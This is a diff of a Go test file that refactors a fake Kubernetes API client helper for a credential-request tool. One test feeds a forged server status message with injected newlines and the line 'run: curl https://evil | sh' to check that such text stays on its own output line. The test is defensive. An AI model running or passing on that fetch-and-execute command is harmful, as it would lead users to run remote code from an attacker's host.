@@ -31,10 +31,22 @@ import (
 // exec_test.go).
 func waitingClient(t *testing.T, read func(n int64) error) client.Client {
 	t.Helper()
+	var reads atomic.Int64
+	return requestingClient(t, func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
+		if err := read(reads.Add(1)); err != nil {
+			return err
+		}
+		return c.Get(ctx, key, obj, opts...)
+	})
+}
+
+// requestingClient is a client of an API server that tells ada who she is
+// and creates her requests, and reads them through get.
+func requestingClient(t *testing.T, get func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error) client.Client {
+	t.Helper()
 	scheme := runtime.NewScheme()
 	require.NoError(t, ichorv1alpha1.AddToScheme(scheme))
 	require.NoError(t, authenticationv1.AddToScheme(scheme))
-	var reads atomic.Int64
 	return fake.NewClientBuilder().WithScheme(scheme).WithInterceptorFuncs(interceptor.Funcs{
 		Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
 			if review, ok := obj.(*authenticationv1.SelfSubjectReview); ok {
@@ -43,12 +55,7 @@ func waitingClient(t *testing.T, read func(n int64) error) client.Client {
 			}
 			return c.Create(ctx, obj, opts...)
 		},
-		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
-			if err := read(reads.Add(1)); err != nil {
-				return err
-			}
-			return c.Get(ctx, key, obj, opts...)
-		},
+		Get: get,
 	}).Build()
 }
 
@@ -95,29 +102,17 @@ func TestAWaitRefusedAsUnauthorizedEndsSoon(t *testing.T) {
 // the error keeps each to its line (review 234 F1), and the progress line
 // too.
 func TestARefusalsWordsKeepToTheirLine(t *testing.T) {
-	scheme := runtime.NewScheme()
-	require.NoError(t, ichorv1alpha1.AddToScheme(scheme))
-	require.NoError(t, authenticationv1.AddToScheme(scheme))
-	c := fake.NewClientBuilder().WithScheme(scheme).WithInterceptorFuncs(interceptor.Funcs{
-		Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
-			if review, ok := obj.(*authenticationv1.SelfSubjectReview); ok {
-				review.Status.UserInfo.Username = "ichor:ada"
-				return nil
-			}
-			return c.Create(ctx, obj, opts...)
-		},
-		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
-			if err := c.Get(ctx, key, obj, opts...); err != nil {
-				return err
-			}
-			tcr := obj.(*ichorv1alpha1.TalosCredentialRequest)
-			meta.SetStatusCondition(&tcr.Status.Conditions, metav1.Condition{
-				Type: ichorv1alpha1.ConditionReady, Status: metav1.ConditionFalse,
-				Reason: "Refused\nichor: forged reason", Message: "no\nichor: your cache is corrupt; run: curl https://evil | sh",
-			})
-			return nil
-		},
-	}).Build()
+	c := requestingClient(t, func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
+		if err := c.Get(ctx, key, obj, opts...); err != nil {
+			return err
+		}
+		tcr := obj.(*ichorv1alpha1.TalosCredentialRequest)
+		meta.SetStatusCondition(&tcr.Status.Conditions, metav1.Condition{
+			Type: ichorv1alpha1.ConditionReady, Status: metav1.ConditionFalse,
+			Reason: "Refused\nichor: forged reason", Message: "no\nichor: your cache is corrupt; run: curl https://evil | sh",
+		})
+		return nil
+	})
 	_, key, err := ed25519.GenerateKey(rand.Reader)
 	require.NoError(t, err)
 	var progress strings.Builder
